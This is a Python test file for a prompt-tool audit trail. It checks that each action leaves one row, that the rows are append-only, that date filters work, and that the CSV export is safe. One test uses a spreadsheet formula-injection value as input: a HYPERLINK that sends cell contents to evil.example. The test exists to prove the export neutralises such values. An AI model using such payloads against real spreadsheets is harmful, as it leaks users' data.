"""The audit trail: every audited action leaves exactly one row naming who did what to what; a refused
or failed action leaves none; the rows cannot be changed or deleted, even through SQL; the CSV export
cannot carry a spreadsheet formula; the filters find the right rows. Rows are read with sqlite3, not
through core.audit, except where core.audit's own filters and export are under test."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from contextlib import closing
from datetime import date, datetime, timedelta, timezone

import pytest
from sqlalchemy.exc import IntegrityError

from core import acceptance, audit, budgets, cli, connection, enhance, identity, keys, optimize, predict, pricing, prompts, runs, settings, store
from core.backend import publications
from core.evaluation import evaluate, split, subsets
from core.labelstudio import NewTask
from core.workbench import Workbench
from tests.conftest import CHOICES_CONFIG, choice
from tests.helpers import wait_for_run
from tests.standin import Reply
from tests.team import acting, join, plain_deployment  # noqa: F401 - plain_deployment is autouse

TEMPLATE = "Sentiment of: {text}\nAnswer with {labels}"
LABELS = ("Positive", "Negative", "Neutral")
CALL_COST = 50 * 20.0 / 1e6  # each answer uses 50 output tokens, priced below at $20 per million (input free)


def answers(request):
    n = int(request.user_text.split("review number ")[1].split("\n")[0])
    return Reply.json({"sentiment": LABELS[n % 3]}, usage=(100, 50))


def rows() -> list[tuple]:
    """The audit rows, oldest first: (id, actor, action, target, detail)."""
    store.engine()  # created and migrated, as core would have it
    with closing(sqlite3.connect(settings.load().database_path)) as db:
        found = db.execute("SELECT id, actor, action, target, detail FROM audit_events ORDER BY id").fetchall()
    return [(i, actor, action, target, json.loads(detail) if detail else {}) for i, actor, action, target, detail in found]


class Trail:
    """Runs actions one at a time, checking that each adds exactly the row it should."""

    def __init__(self):
        self.seen: set[str] = set()

    def one(self, action: str, actor: str, target, act):
        """``target`` is the row's target, or a function of what ``act`` returned giving it."""
        before = rows()
        result = act()
        new = rows()[len(before):]
        assert rows()[: len(before)] == before, "an earlier row changed"
        target = target(result) if callable(target) else target
        assert [(r[1], r[2], r[3]) for r in new] == [(actor, action, target)], f"{action}: {new}"
        self.seen.add(action)
        self.detail = new[0][4]
        return result

    def none(self, act, *, raises: type[BaseException] | None = None):
        before = rows()
        if raises:
            with pytest.raises(raises):
                act()
        else:
            act()
        assert rows() == before


@pytest.fixture
def project(use_labelstudio, make_project, standin):
    standin.respond_with(answers)
    tasks = [NewTask({"text": f"review number {n}"}, [(choice(LABELS[n % 3]), True)]) for n in range(4)]
    return make_project(CHOICES_CONFIG, tasks)


def test_every_audited_action_leaves_exactly_one_row_with_who_what_and_which(project, standin, labelstudio, ls_client, backend):
    project, ids = project
    trail = Trail()
    local = identity.local_admin()

    with identity.acting_as(local):
        trail.one("member added", "local", "bea@x.com", lambda: identity.add("Bea@X.com", "admin", "Bea"))
    with acting("bea@x.com"):
        trail.one("member added", "bea@x.com", "mo@x.com", lambda: identity.add("mo@x.com", "member", "Mo"))
        trail.one("member added", "bea@x.com", "vera@x.com", lambda: identity.add("vera@x.com", "viewer"))
        trail.one("role changed", "bea@x.com", "vera@x.com", lambda: identity.set_role("vera@x.com", "member"))
        assert trail.detail == {"from": "viewer", "to": "member"}
        trail.none(lambda: identity.set_role("vera@x.com", "member"))  # no change, no row
        trail.one("member removed", "bea@x.com", "vera@x.com", lambda: identity.remove("vera@x.com"))

        trail.one("key added", "bea@x.com", "team", lambda: keys.add("team", "openai-compatible", base_url=standin.base_url))
        assert trail.detail == {"provider": "openai-compatible", "base_url": standin.base_url}  # never the secret
        trail.one("key edited", "bea@x.com", "team", lambda: keys.update("team", api_key="sk-a-new-secret-0000000000"))
        assert trail.detail == {"changed": "secret"} and "sk-a-new" not in json.dumps(rows())
        trail.one("key tested", "bea@x.com", "team", lambda: keys.test("team"))
        trail.one("price set", "bea@x.com", "gpt-4o-mini", lambda: pricing.save("gpt-4o-mini", 0.0, 20.0))
        trail.one("price set", "bea@x.com", "spare-model", lambda: pricing.save("spare-model", 1.0, 1.0))
        trail.one("price removed", "bea@x.com", "spare-model", lambda: pricing.remove("spare-model"))
        trail.one("key budget set", "bea@x.com", "team", lambda: budgets.set_key_budget("team", 100.0))
        assert trail.detail == {"monthly_budget_usd": 100.0}
        trail.one("member budget set", "bea@x.com", "mo@x.com", lambda: budgets.set_member_budget("mo@x.com", 50.0))
        url = labelstudio.url
        trail.one("Label Studio connection saved", "bea@x.com", url, lambda: connection.save(url, labelstudio.credentials.token))

    with acting("mo@x.com"):
        trail.one("own Label Studio token saved", "mo@x.com", None, lambda: connection.save_own_token(labelstudio.credentials.token))
        trail.one("own Label Studio token removed", "mo@x.com", None, connection.forget_own_token)
        v1 = trail.one(
            "prompt version saved", "mo@x.com", "sentiment@v1",
            lambda: prompts.create(project.id, "sentiment", template=TEMPLATE, controls=["sentiment"], provider_key="team", model="gpt-4o-mini"),
        )
        v2 = trail.one("prompt version saved", "mo@x.com", "sentiment@v2", lambda: prompts.new_version("sentiment", project.id, template=TEMPLATE + "\nBe careful.", note="v2"))
        trail.one("ground truth split", "mo@x.com", f"project {project.id}", lambda: split.make(ls_client, project.id, examples=1, test_share=0.25))
        assert trail.detail == {"split": "1 example, 2 development and 1 test task (seed 0, stratified by sentiment)", "replaced": False}
        # v2 answers Neutral to everything; a teacher reads its errors on the development part
        standin.respond_with(lambda r: Reply.json({"system_message": "", "template": TEMPLATE, "rationale": "be precise"}) if "rationale" in json.dumps(r.schema or {}) else Reply.json({"sentiment": "Neutral"}, usage=(100, 50)))
        graded = trail.one(
            "run started", "mo@x.com", lambda started: f"run {started.id}",
            lambda: evaluate.start(v2, subsets.choose(ls_client, project.id), CHOICES_CONFIG, client=ls_client),
        )
        trail.none(lambda: runs.execute(graded.id, client=ls_client))
        trail.one("prompt enhanced", "mo@x.com", "sentiment@v2", lambda: enhance.propose(v2, graded.id, teacher_key="team", teacher_model="gpt-4o-mini", client=ls_client))
        assert trail.detail["teacher"] == "team · gpt-4o-mini" and trail.detail["errors"] >= 1
        standin.respond_with(answers)
        bench = Workbench.open(project.id, ls_client)
        trail.one("model tried", "mo@x.com", "sentiment@v1", lambda: bench.try_on(v1, bench.task(ids[0])))
        assert trail.detail["cost_usd"] == pytest.approx(CALL_COST)

        # a prediction run on two tasks, with a spending limit that pays for one call: it stops after one
        run = trail.one(
            "run started", "mo@x.com", lambda started: f"run {started.id}",
            lambda: runs.create(v1, ids[:2], kind="predict", label_config=CHOICES_CONFIG, concurrency=1, max_cost_usd=1.5 * CALL_COST),
        )
        assert trail.detail == {"kind": "predict", "mode": "live", "prompt": "sentiment", "version": 1, "tasks": 2, "estimated_cost_usd": None}
        trail.none(lambda: runs.execute(run.id, client=ls_client))  # the work itself is not an action of anyone's
        assert runs.get(run.id).status == "stopped"
        trail.one("run resumed", "mo@x.com", f"run {run.id}", lambda: runs.resume_in_background(run.id))
        assert trail.detail == {"cost_usd": pytest.approx(CALL_COST), "finished": 1, "tasks": 2}
        wait_for_run(run.id)  # the worker it started stops again at the limit

        going = runs.create(v2, ids, kind="evaluate", label_config=CHOICES_CONFIG)
        search = trail.one(
            "optimize started", "mo@x.com", "sentiment@v2",
            lambda: optimize.start(v2, reflection_key="team", reflection_model="gpt-4o-mini", max_calls=10, client=ls_client),
        )
        assert trail.detail == {"optimization": search.id, "max_calls": 10, "max_cost_usd": None, "reflection": "team · gpt-4o-mini"}
    with acting("bea@x.com"):
        trail.one("run cancelled", "bea@x.com", f"run {going.id}", lambda: runs.cancel(going.id))
        assert trail.detail == {"cost_usd": None, "finished": 0, "tasks": 4}
        trail.one("optimize cancelled", "bea@x.com", f"optimize {search.id}", lambda: optimize.cancel(search.id))
        assert trail.detail == {"calls_used": 0, "cost_usd": None}

    with acting("mo@x.com"):
        made = trail.one("predictions turned into annotations", "mo@x.com", "sentiment@v1", lambda: predict.to_annotations(v1, ls_client))
        assert made == 1 and trail.detail == {"project": project.id, "annotations": 1, "in Label Studio as": "the shared connection"}
        trail.one("review tab created", "mo@x.com", "sentiment@v1", lambda: acceptance.review_tab(v1, 0.5, ls_client))
        assert trail.detail == {"project": project.id, "threshold": 0.5, "tasks": 0}
        trail.one("predictions accepted", "mo@x.com", "sentiment@v1", lambda: acceptance.accept(v1, 0.5, ls_client))
        assert trail.detail == {
            "project": project.id, "threshold": 0.5, "accepted": 0, "failed": 0, "already annotated": 1, "left for review": 0, "expected accuracy": None,
        }
        trail.one("predictions deleted", "mo@x.com", "sentiment@v1", lambda: predict.delete(v1, ls_client))
        assert trail.detail == {"project": project.id, "predictions": 1}
        trail.one("version published", "mo@x.com", "sentiment@v2", lambda: publications.connect(project.id, "sentiment", 2, backend.url, ls_client, max_cost_usd=1.0))
        assert trail.detail == {"project": project.id, "url": backend.url, "interactive": False, "instruction": None, "max_cost_usd": 1.0}
        assert "password" not in json.dumps(rows()) and publications.get(project.id).username not in json.dumps(rows())
        trail.one("version unpublished", "mo@x.com", "sentiment@v2", lambda: publications.disconnect(project.id, ls_client))
        assert trail.detail == {"project": project.id}
        trail.one("prompt version saved", "mo@x.com", "scratch@v1", lambda: prompts.create(project.id, "scratch", template=TEMPLATE, controls=["sentiment"], provider_key="team", model="gpt-4o-mini"))
        trail.one("prompt archived", "mo@x.com", "scratch", lambda: prompts.archive("scratch", project.id))
        trail.one("prompt restored", "mo@x.com", "scratch", lambda: prompts.restore("scratch", project.id))
        trail.one("prompt deleted", "mo@x.com", "scratch", lambda: prompts.delete("scratch", project.id))

    trail.one("signed in", "mo@x.com", "token-1", lambda: identity.sign_in("mo@x.com", "Mo", "oidc", marker="token-1"))
    assert trail.detail == {"method": "oidc"}
    trail.none(lambda: identity.sign_in("mo@x.com", "Mo", "oidc", marker="token-1"))  # another tab of the same sign-in
    trail.one("signed in", "mo@x.com", "token-2", lambda: identity.sign_in("mo@x.com", "Mo", "oidc", marker="token-2"))
    trail.one("signed in", "bea@x.com", "token-1", lambda: identity.sign_in("bea@x.com", "Bea", "oidc", marker="token-1"))

    with acting("bea@x.com"):
        trail.one("Label Studio connection removed", "bea@x.com", None, connection.forget)
        trail.one("key removed", "bea@x.com", "team", lambda: keys.remove("team"))

    assert trail.seen == set(audit.ACTIONS)  # every audited action was checked here


def test_a_refused_or_failed_action_leaves_no_row(use_labelstudio, standin):
    trail = Trail()
    join("bea@x.com", "admin")
    join("vera@x.com", "viewer")
    join("mo@x.com", "member")
    with acting("bea@x.com"):
        keys.add("team", "openai-compatible", base_url=standin.base_url)
        v1 = prompts.create(7, "sentiment", template=TEMPLATE, controls=["sentiment"], provider_key="team", model="gpt-4o-mini")
        first = runs.create(v1, [1, 2], kind="evaluate", label_config=CHOICES_CONFIG)
    with acting("vera@x.com"):
        trail.none(lambda: keys.add("k2", "openai-compatible", base_url=standin.base_url), raises=identity.NotAllowed)
        trail.none(lambda: prompts.archive("sentiment", 7), raises=identity.NotAllowed)
        trail.none(lambda: runs.cancel(first.id), raises=identity.NotAllowed)
    with acting("mo@x.com"):
        trail.none(lambda: budgets.set_key_budget("team", 1.0), raises=identity.NotAllowed)
        trail.none(lambda: prompts.delete("sentiment", 7), raises=prompts.PromptError)  # it has a run
        trail.none(lambda: runs.create(v1, [3], kind="evaluate", label_config=CHOICES_CONFIG), raises=runs.RunError)  # one is going
    with acting("bea@x.com"):
        trail.none(lambda: pricing.remove("no-such-model"), raises=ValueError)
        trail.none(lambda: identity.add("mo@x.com", "viewer"), raises=ValueError)  # already on the team
        trail.none(lambda: identity.set_role("bea@x.com", "viewer"), raises=ValueError)  # the last admin
        trail.none(lambda: budgets.set_key_budget("no-such-key", 1.0), raises=ValueError)
        trail.none(lambda: budgets.set_member_budget("mo@x.com", -5), raises=ValueError)
        standin.script_models(Reply.error(401))
        trail.none(lambda: keys.test_and_add("k3", "openai-compatible", base_url=standin.base_url), raises=keys.KeyTestFailed)
        budgets.set_key_budget("team", 0.000001)
        runs.cancel(first.id)
    with acting("mo@x.com"):
        trail.none(lambda: runs.create(v1, [3], kind="evaluate", label_config=CHOICES_CONFIG, estimated_cost_usd=1.0), raises=runs.RunError)
    trail.none(lambda: identity.sign_in("stranger@y.com", None, "proxy"), raises=identity.NotAllowed)
    assert "k3" not in {k.name for k in keys.all_keys()}


# -- append-only ------------------------------------------------------------------------------------------


def test_the_trail_cannot_be_changed_or_deleted_even_through_sql():
    join("mo@x.com", "member")
    with acting("mo@x.com"):
        prompts.create(7, "sentiment", template=TEMPLATE, controls=["sentiment"], provider_key="team", model="gpt-4o-mini")
    before = rows()
    assert len(before) == 2
    with closing(sqlite3.connect(settings.load().database_path)) as db:
        for statement in ("UPDATE audit_events SET actor = 'someone-else@x.com'", "DELETE FROM audit_events", "DELETE FROM audit_events WHERE id = 1"):
            with pytest.raises(sqlite3.IntegrityError, match="the audit trail is append-only"):
                db.execute(statement)
    with pytest.raises(IntegrityError, match="append-only"):  # nor through core's own store
        with store.writing() as s:
            s.delete(s.get(store.AuditEvent, before[0][0]))
    assert rows() == before


# -- the CSV export -----------------------------------------------------------------------------------------


def test_the_csv_has_its_header_and_no_cell_a_spreadsheet_would_run_as_a_formula(capsys):
    join("mo@x.com", "member")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
    with acting("mo@x.com"):
        for name in (evil, "+1+1", "-2", "plain"):
            prompts.create(7, name, template=TEMPLATE, controls=["sentiment"], provider_key="team", model="gpt-4o-mini")
        prompts.archive(evil, 7)

    exported = audit.to_csv(audit.events())
    assert cli.main(["activity", "list", "--csv"]) == 0
    assert capsys.readouterr().out == exported  # the command exports what the page does

    table = list(csv.reader(io.StringIO(exported)))
    assert table[0] == ["time (UTC)", "user", "action", "target", "details", "details (JSON)"]
    by_target = {row[3]: row for row in table[1:]}
    assert set(by_target) == {"mo@x.com", "'" + evil + "@v1", "'+1+1@v1", "'-2@v1", "plain@v1", "'" + evil}
    archived = by_target["'" + evil]
    assert (archived[1], archived[2], archived[4], json.loads(archived[5])) == ("mo@x.com", "prompt archived", "project: 7", {"project": 7})
    for row in table[1:]:
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
        datetime.strptime(row[0], "%Y-%m-%d %H:%M:%S")


# -- the filters ----------------------------------------------------------------------------------------------


def insert(at: datetime, actor: str, action: str, target: str) -> None:
    """An event from the past, appended as core stores them (UTC, without an offset)."""
    with closing(sqlite3.connect(settings.load().database_path)) as db, db:
        db.execute(
            "INSERT INTO audit_events (at, actor, action, target, detail) VALUES (?, ?, ?, ?, '{}')",
            (at.strftime("%Y-%m-%d %H:%M:%S.%f"), actor, action, target),
        )


def test_the_filters_find_events_by_user_action_and_whole_days(capsys):
    store.engine()  # the database, migrated
    insert(datetime(2026, 1, 31, 0, 0, 0), "ana@x.com", "run started", "run 1")
    insert(datetime(2026, 1, 31, 23, 59, 59, 999999), "ben@x.com", "run started", "run 2")
    insert(datetime(2026, 2, 1, 0, 0, 0), "ana@x.com", "run cancelled", "run 2")
    insert(datetime(2026, 2, 2, 12, 0, 0), "ana@x.com", "key added", "team")

    def targets(**filters) -> list[str]:
        return [e.target for e in audit.events(**filters)]

    assert targets() == ["team", "run 2", "run 2", "run 1"]  # newest first
    assert targets(actor="ana@x.com") == ["team", "run 2", "run 1"]
    assert targets(action="run started") == ["run 2", "run 1"]
    assert targets(actor="ana@x.com", action="run started") == ["run 1"]
    assert targets(until=date(2026, 1, 31)) == ["run 2", "run 1"]  # the whole last day, to its last microsecond
    assert targets(since=date(2026, 2, 1)) == ["team", "run 2"]
    assert targets(since=date(2026, 2, 1), until=date(2026, 2, 1)) == ["run 2"]
    assert targets(since=date(2026, 2, 3)) == []
    assert [e.actor for e in audit.events(action="run started", since=date(2026, 1, 31), until=date(2026, 1, 31))] == ["ben@x.com", "ana@x.com"]
    assert audit.events(since=date(2026, 2, 1))[0].at == datetime(2026, 2, 2, 12, 0, tzinfo=timezone.utc)

    assert cli.main(["activity", "list", "--user", "ana@x.com", "--since", "2026-02-01", "--csv"]) == 0
    listed = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [(r[0], r[2], r[3]) for r in listed[1:]] == [("2026-02-02 12:00:00", "key added", "team"), ("2026-02-01 00:00:00", "run cancelled", "run 2")]
    assert cli.main(["activity", "list", "--action", "run started"]) == 0
    assert [line.split()[:4] for line in capsys.readouterr().out.splitlines()] == [
        ["2026-01-31", "23:59:59", "ben@x.com", "run"], ["2026-01-31", "00:00:00", "ana@x.com", "run"],
    ]


def test_an_event_is_stamped_with_the_time_it_happened_in_utc():
    join("mo@x.com", "member")
    start = datetime.now(timezone.utc)
    with acting("mo@x.com"):
        prompts.create(7, "sentiment", template=TEMPLATE, controls=["sentiment"], provider_key="team", model="gpt-4o-mini")
    found = audit.events(actor="mo@x.com")[0]
    assert start - timedelta(seconds=1) <= found.at <= datetime.now(timezone.utc)
    assert audit.events(actor="mo@x.com", since=start.date(), until=start.date())[0].id == found.id
